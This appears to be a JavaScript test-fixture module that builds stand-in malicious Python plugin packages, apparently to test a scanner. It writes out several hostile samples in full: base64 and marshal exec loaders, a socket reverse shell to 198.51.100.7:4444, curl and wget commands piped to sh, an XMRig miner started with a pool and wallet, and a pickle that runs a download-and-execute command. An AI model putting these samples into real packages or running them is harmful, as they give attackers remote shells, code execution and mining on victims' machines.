import { base64, BYTECODE, ELF, MARSHALLED, pickledCall } from '../make-files.mjs';
import { standIn } from '../honest-base.mjs';

const STAGE = "import os\nos.system('curl -s https://pastebin.com/raw/standin-dead | sh')\n";

/** Code that starts other code. */
export const code = [
  standIn('a01-exec-base64', 'Runs code that is written as Base64.', 'blur', {
    init: `import base64\nexec(base64.b64decode("${base64(STAGE)}"))\n`,
  }),
  standIn('a02-marshal', 'Runs compiled code that is written as Base64.', 'prompts', {
    init: `import base64, marshal\nexec(marshal.loads(base64.b64decode("${MARSHALLED.toString('base64')}")))\n`,
  }),
  standIn('a03-bytecode-only', 'Ships its code compiled, without the source.', 'saver', {
    init: 'from . import core\n',
    files: { 'core.pyc': BYTECODE },
  }),
  standIn('a04-reverse-shell', 'Gives a shell to the listener at an address.', 'blur', {
    init: String.raw`import os, pty, socket, threading

def _connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("198.51.100.7", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn("/bin/bash")

threading.Thread(target=_connect, daemon=True).start()
`,
  }),
  standIn('a05-install-pipe', 'Its install.py runs a script from the network.', 'prompts', {
    files: {
      'install.py': String.raw`import os
import subprocess

subprocess.run("curl -fsSL https://raw.githubusercontent.com/-standin-/dead/main/setup.sh | bash", shell=True)
os.system("wget -qO- http://198.51.100.7/i.sh | sh")
`,
    },
  }),
  standIn('a06-miner-pool', 'Starts a miner for a pool.', 'saver', {
    nodes: String.raw`import subprocess

POOL = "stratum+tcp://pool.supportxmr.com:3333"
WALLET = "4standinstandinstandin0000000000000000000000"


def warm_up():
    here = os.path.dirname(__file__)
    subprocess.Popen([os.path.join(here, "bin", "xmrig"), "-o", POOL, "-u", WALLET, "-k", "--donate-level=0"])


warm_up()
`,
  }),
  standIn('a07-miner-binary', 'Has a program without a suffix in a folder and starts it.', 'blur', {
    init: 'import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), "bin", "xmrig")])\n',
    files: { 'bin/xmrig': ELF },
  }),
  standIn('a08-pickle-system', 'Loads a pickle that starts a program.', 'prompts', {
    init: String.raw`import os, pickle
with open(os.path.join(os.path.dirname(__file__), "styles.pkl"), "rb") as file:
    STYLES = pickle.load(file)
`,
    files: {
      'styles.pkl': pickledCall('posix', 'system', 'curl -s https://pastebin.com/raw/standin-dead | sh'),
    },
  }),
];
